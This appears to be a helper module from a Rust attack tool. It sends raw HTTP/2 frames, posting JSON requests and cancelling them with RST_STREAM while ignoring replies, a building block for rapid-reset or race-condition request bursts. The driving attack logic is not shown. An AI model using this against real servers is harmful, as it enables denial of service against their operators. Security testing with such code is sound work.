//! The parts of HTTP/2 (RFC 9113) that an attacker needs: sending requests and frames.

use std::{io::Write as _, net::TcpStream};

use anyhow::Result;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const ACK: u8 = 1;
const CANCEL: u32 = 8;

/// A connection whose answers are ignored.
pub(super) struct Http2 {
    stream: TcpStream,
    next: u32,
}

impl Http2 {
    pub(super) fn begin(mut stream: TcpStream) -> Result<Self> {
        stream.write_all(PREFACE)?;
        let mut connection = Self { stream, next: 1 };
        connection.frame(SETTINGS, 0, 0, &[])?;
        connection.frame(SETTINGS, ACK, 0, &[])?;
        Ok(connection)
    }

    /// Sends a request with a JSON body, and returns its stream.
    pub(super) fn post(&mut self, authority: &str, path: &str, body: &str) -> Result<u32> {
        let stream = self.next;
        self.next += 2;
        let mut block = Vec::new();
        let fields = [
            (":method", "POST"),
            (":scheme", "http"),
            (":authority", authority),
            (":path", path),
            ("content-type", "application/json"),
        ];
        for (name, value) in fields {
            // A literal that is not indexed, with a new name, without Huffman coding (RFC 7541, 6.2.2).
            block.push(0);
            for text in [name, value] {
                block.push(u8::try_from(text.len())?);
                block.extend_from_slice(text.as_bytes());
            }
        }
        self.frame(HEADERS, END_HEADERS, stream, &block)?;
        self.frame(DATA, END_STREAM, stream, body.as_bytes())?;
        Ok(stream)
    }

    /// Takes a request back.
    pub(super) fn reset(&mut self, stream: u32) -> Result<()> {
        self.frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())
    }

    fn frame(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Result<()> {
        let length = u32::try_from(payload.len())?.to_be_bytes();
        let mut frame = vec![length[1], length[2], length[3], kind, flags];
        frame.extend_from_slice(&stream.to_be_bytes());
        frame.extend_from_slice(payload);
        Ok(self.stream.write_all(&frame)?)
    }
}
